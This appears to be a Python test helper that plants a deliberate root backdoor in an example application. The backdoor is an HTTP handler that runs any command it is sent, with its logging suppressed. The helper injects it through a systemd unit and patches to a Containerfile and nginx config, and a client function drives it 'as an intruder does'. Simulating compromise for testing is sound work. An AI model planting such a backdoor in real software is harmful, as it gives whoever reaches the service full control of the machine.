"""An application with a hole: whoever reaches the service has root in the machine. It is put into a recipe of the example's, and is
the hand of somebody inside who came through no door of ours."""

from __future__ import annotations

import http.client
import json
import time
from pathlib import Path

from stoneware.model.machine import Ran

PROGRAM = '''\
"""Runs the words that it is sent."""

import http.server
import json
import subprocess


class Hole(http.server.BaseHTTPRequestHandler):
    def log_message(self, *words):
        pass  # whoever reads the log may have been stopped

    def do_POST(self):
        told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        words = ["env", *told]  # it says by its status that a program isn't there
        ended = subprocess.run(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
        answer = json.dumps({"status": abs(ended.returncode), "output": ended.stdout.decode("utf-8", "replace")[-2000:]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)


http.server.ThreadingHTTPServer(("127.0.0.1", 4001), Hole).serve_forever()
'''
UNIT = """\
[Unit]
Description=A hole
[Service]
ExecStart=/usr/bin/python3 /opt/critter/hole.py
[Install]
WantedBy=multi-user.target
"""
DUG_WITHIN_S = 60.0
PLACE = "    location = /hole { proxy_pass http://127.0.0.1:4001; proxy_read_timeout 130s; }\n"


def dig(repository: Path) -> None:
    """Puts it into the recipe of the example's version 1."""
    (repository / "app" / "hole.py").write_text(PROGRAM)
    (repository / "app" / "hole.service").write_text(UNIT)
    recipe, server = repository / "Containerfile", repository / "nginx.conf"
    copied = "COPY app/hole.py /opt/critter/hole.py\nCOPY app/hole.service /etc/systemd/system/hole.service\n"
    text = recipe.read_text().replace(
        "RUN systemctl enable critter nginx", f"{copied}RUN systemctl enable critter nginx hole"
    )
    recipe.write_text(text)
    server.write_text(server.read_text().replace("    location / {", f"{PLACE}    location / {{"))


def through(address: str, *words: str) -> Ran:
    """Runs a program in the machine at `HOST:PORT`, as an intruder does. Where nobody is behind the hole yet, it is tried again."""
    host, _, port = address.rpartition(":")
    until = time.monotonic() + DUG_WITHIN_S
    while (found := _ask(host, int(port), words)) is None:
        if time.monotonic() > until:
            raise RuntimeError(f"the hole at {address} doesn't answer")
        time.sleep(0.5)
    return found


def _ask(host: str, port: int, words: tuple[str, ...]) -> Ran | None:
    connection = http.client.HTTPConnection(host, port, timeout=150)
    try:
        connection.request("POST", "/hole", json.dumps(words))
        answer = connection.getresponse()
        body = answer.read()
        return Ran.model_validate_json(body) if answer.status == 200 else None
    finally:
        connection.close()
